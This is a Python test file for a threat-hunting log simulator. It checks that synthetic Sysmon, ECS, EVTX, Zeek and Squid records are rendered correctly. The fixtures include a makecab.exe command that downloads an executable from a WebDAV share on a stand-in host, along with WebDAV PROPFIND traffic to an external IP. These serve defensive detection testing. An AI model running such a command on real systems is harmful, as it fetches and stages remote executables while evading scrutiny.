"""Each renderer produces the real shape of its format for known events."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import orjson
import pytest

from cabhunt.simulate import netrec, sysmon
from cabhunt.simulate.entities import Host, Logon, Proc
from cabhunt.simulate.writers import squid, zeek
from cabhunt.simulate.writers.ecs import EcsDoc
from cabhunt.simulate.writers.evtxjson import EvtxJson
from cabhunt.simulate.writers.flat import FlatSysmon
from cabhunt.simulate.writers.winlogbeat import WinlogbeatRaw
from cabhunt.simulate.writers.xml import EventXml

TS = 1772360130123  # 2026-03-01 10:15:30.123 UTC
HOST = Host(0, "WS0001", "WS0001.corp.example.com", "10.20.1.10", "workstation", "winlogbeat", "anna.berg",
            "S-1-5-21-1-2-3-1104", "ABCDEF01", "S-1-5-21-9")
USER = Logon("CORP\\anna.berg", "0x5a3f1", "{ABCDEF01-0000-0000-0000-000000000001}", 1, "Medium")


def _procs() -> tuple[Proc, Proc]:
    cmd = Proc("{ABCDEF01-1111-6A00-0100-000000000000}", 4242, "C:\\Windows\\System32\\cmd.exe",
               '"C:\\Windows\\system32\\cmd.exe" ', "C:\\Users\\anna.berg\\", USER,
               sysmon.pe_for("C:\\Windows\\System32\\cmd.exe"), TS - 5000)
    mk = Proc("{ABCDEF01-2222-6A00-0200-000000000000}", 5150, "C:\\Windows\\System32\\makecab.exe",
              "makecab.exe \\\\cdn.example.net@SSL\\DavWWWRoot\\a.exe C:\\Users\\Public\\a.cab",
              "C:\\Users\\anna.berg\\", USER, sysmon.pe_for("C:\\Windows\\System32\\makecab.exe"), TS, cmd)
    return cmd, mk


def test_makecab_version_info_is_real() -> None:
    pe = sysmon.pe_for("C:\\Windows\\System32\\makecab.exe")
    assert pe.original_file_name == "MAKECAB.EXE" and pe.company == "Microsoft Corporation"
    renamed = sysmon.pe_for("C:\\Users\\Public\\svc.exe", "DIANTZ.EXE")
    assert renamed.original_file_name == "DIANTZ.EXE"


def test_winlogbeat_raw_shape() -> None:
    _, mk = _procs()
    doc = orjson.loads(WinlogbeatRaw().render(sysmon.proc_create(mk), HOST, 77))
    w = doc["winlog"]
    assert doc["event"]["code"] == "1" and w["event_id"] == "1" and w["record_id"] == 77
    assert w["channel"] == "Microsoft-Windows-Sysmon/Operational" and w["provider_name"] == "Microsoft-Windows-Sysmon"
    assert w["computer_name"] == HOST.fqdn and doc["host"]["name"] == "ws0001"
    ed = w["event_data"]
    assert all(isinstance(v, str) for v in ed.values())
    assert ed["ProcessId"] == "5150" and ed["ParentProcessGuid"] == "{ABCDEF01-1111-6A00-0100-000000000000}"
    assert ed["OriginalFileName"] == "MAKECAB.EXE" and ed["UtcTime"] == "2026-03-01 10:15:30.123"
    assert doc["@timestamp"].startswith("2026-03-01T10:15:30.123")
    assert "process" not in doc  # raw output carries no ECS fields


def test_ecs_shape_process_network_dns_file() -> None:
    cmd, mk = _procs()
    ecs = EcsDoc()
    p = orjson.loads(ecs.render(sysmon.proc_create(mk), HOST, 1))
    assert p["process"]["entity_id"] == mk.guid and p["process"]["pid"] == 5150
    assert p["process"]["executable"] == mk.image and p["process"]["command_line"] == mk.cmd
    assert p["process"]["pe"]["original_file_name"] == "MAKECAB.EXE"
    assert p["process"]["parent"]["entity_id"] == cmd.guid and p["process"]["parent"]["executable"] == cmd.image
    assert p["process"]["working_directory"] == "C:\\Users\\anna.berg\\"
    assert p["user"] == {"domain": "CORP", "name": "anna.berg"}
    assert p["event"]["code"] == "1" and p["event"]["category"] == ["process"]
    assert "CommandLine" not in p["winlog"].get("event_data", {})
    n = orjson.loads(ecs.render(sysmon.net_connect(TS + 10, mk, HOST.ip, 50000, "10.20.0.10", 445,
                                                   dst_host="FS01.corp.example.com"), HOST, 2))
    assert n["destination"] == {"ip": "10.20.0.10", "port": 445, "domain": "FS01.corp.example.com"}
    assert n["source"]["ip"] == HOST.ip and n["network"]["direction"] == "egress"
    assert n["network"]["transport"] == "tcp" and n["event"]["category"] == ["network"]
    d = orjson.loads(ecs.render(sysmon.dns_query(TS, mk, "cdn.example.net", ["type:  5 edge.example.net",
                                                                             "93.184.216.34"]), HOST, 3))
    assert d["dns"]["question"]["name"] == "cdn.example.net" and d["dns"]["resolved_ip"] == ["93.184.216.34"]
    assert {"type": "CNAME", "data": "edge.example.net"} in d["dns"]["answers"]
    f = orjson.loads(ecs.render(sysmon.file_create(TS, mk, "C:\\Users\\Public\\a.cab"), HOST, 4))
    assert f["file"]["path"] == "C:\\Users\\Public\\a.cab" and f["file"]["extension"] == "cab"
    s = orjson.loads(ecs.render(sysmon.share_5145(TS, "S-1", "anna.berg", "CORP", "0x1", HOST.ip, 50000, "scratch",
                                                  "D:\\Shares\\Scratch", "tools\\a.exe"), HOST, 5))
    assert s["winlog"]["event_data"]["ShareName"] == "\\\\*\\scratch" and s["source"]["ip"] == HOST.ip


def test_flat_nxlog_shape() -> None:
    _, mk = _procs()
    doc = orjson.loads(FlatSysmon().render(sysmon.proc_create(mk), HOST, 9))
    assert doc["EventID"] == 1 and doc["Hostname"] == HOST.fqdn and doc["SourceName"] == "Microsoft-Windows-Sysmon"
    assert doc["Channel"] == "Microsoft-Windows-Sysmon/Operational" and doc["RecordNumber"] == 9
    assert doc["Image"] == mk.image and doc["CommandLine"] == mk.cmd and doc["UtcTime"] == "2026-03-01 10:15:30.123"
    assert doc["EventTime"] == "2026-03-01 10:15:30" and doc["Message"].startswith("Process Create:")


def test_evtx_json_shape() -> None:
    _, mk = _procs()
    doc = orjson.loads(EvtxJson().render(sysmon.net_connect(TS, mk, HOST.ip, 50000, "1.2.3.4", 443), HOST, 3))
    ev = doc["Event"]
    assert ev["#attributes"] == {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}
    sysd = ev["System"]
    assert sysd["EventID"] == 3 and sysd["EventRecordID"] == 3 and sysd["Computer"] == HOST.fqdn
    assert sysd["Provider"]["#attributes"]["Name"] == "Microsoft-Windows-Sysmon"
    assert sysd["TimeCreated"]["#attributes"]["SystemTime"].startswith("2026-03-01T10:15:30.123")
    assert ev["EventData"]["ProcessGuid"] == mk.guid.strip("{}")
    assert ev["EventData"]["DestinationPort"] == 443 and ev["EventData"]["Initiated"] is True


@pytest.mark.parametrize("special", ["a & b", "<tag>", "it's \"quoted\""])
def test_xml_is_wellformed_and_escaped(special: str) -> None:
    _, mk = _procs()
    mk.cmd = f"makecab {special}"
    text = EventXml().render(sysmon.proc_create(mk), HOST, 12).decode()
    root = ET.fromstring(text)
    ns = {"e": "http://schemas.microsoft.com/win/2004/08/events/event"}
    assert root.find("e:System/e:EventID", ns).text == "1"  # type: ignore[union-attr]
    data = {d.get("Name"): d.text for d in root.findall("e:EventData/e:Data", ns)}
    assert data["CommandLine"] == mk.cmd and data["ProcessGuid"] == mk.guid


def test_zeek_and_squid_lines() -> None:
    rec = netrec.http(TS, "Cabc", HOST.ip, 50000, "185.62.190.41", 8080, "PROPFIND", "185.62.190.41:8080",
                      "/share/", "Microsoft-WebDAV-MiniRedir/10.0.19045", 207, "Multi-Status", 1873,
                      mime="text/xml")
    js = json.loads(zeek.render_json(rec))
    assert js["id.orig_h"] == HOST.ip and js["id.resp_p"] == 8080 and js["method"] == "PROPFIND"
    assert js["ts"] == pytest.approx(TS / 1000) and "referrer" not in js
    row = zeek.render_tsv(rec).decode().split("\t")
    assert len(row) == len(netrec.HTTP_FIELDS) and row[0] == "1772360130.123000" and row[10] == "-"
    header = zeek.tsv_header("http", TS).decode()
    assert header.startswith("#separator \\x09\n") and "#fields\tts\tuid\tid.orig_h" in header
    line = squid.render(netrec.squid(TS, 35, HOST.ip, "TCP_MISS", 207, 2193, "PROPFIND",
                                     "http://185.62.190.41:8080/share/", "185.62.190.41", "text/xml")).decode()
    assert line == ("1772360130.123     35 10.20.1.10 TCP_MISS/207 2193 PROPFIND http://185.62.190.41:8080/share/ "
                    "- HIER_DIRECT/185.62.190.41 text/xml")
